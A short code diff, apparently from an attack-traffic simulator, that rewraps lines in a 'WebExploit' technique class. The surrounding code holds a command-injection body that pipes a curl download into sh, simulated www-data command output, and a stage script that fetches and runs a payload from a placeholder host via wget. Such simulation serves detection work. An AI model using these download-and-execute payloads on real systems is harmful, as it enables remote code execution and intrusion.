@@ -54,7 +54,9 @@ class WebExploit(Technique):
             body=f"echo; curl -s {stage_url} | sh".encode(),
             user_agent=params.user_agent,
         )
-        output = b"uid=33(www-data) gid=33(www-data) groups=33(www-data)\nLinux portal 6.1.0-18-amd64\n"
+        output = (
+            b"uid=33(www-data) gid=33(www-data) groups=33(www-data)\nLinux portal 6.1.0-18-amd64\n"
+        )
         session = http_session(
             ctx.attacker,
             ctx.target,
@@ -76,7 +78,9 @@ class WebExploit(Technique):
             rng,
             [
                 (
-                    http_request("GET", params.stage_path, ctx.attacker.ip, user_agent="curl/7.88.1"),
+                    http_request(
+                        "GET", params.stage_path, ctx.attacker.ip, user_agent="curl/7.88.1"
+                    ),
                     http_response(
                         200, b"#!/bin/sh\nwget -qO- http://x/m | sh\n", content_type="text/x-sh"
                     ),
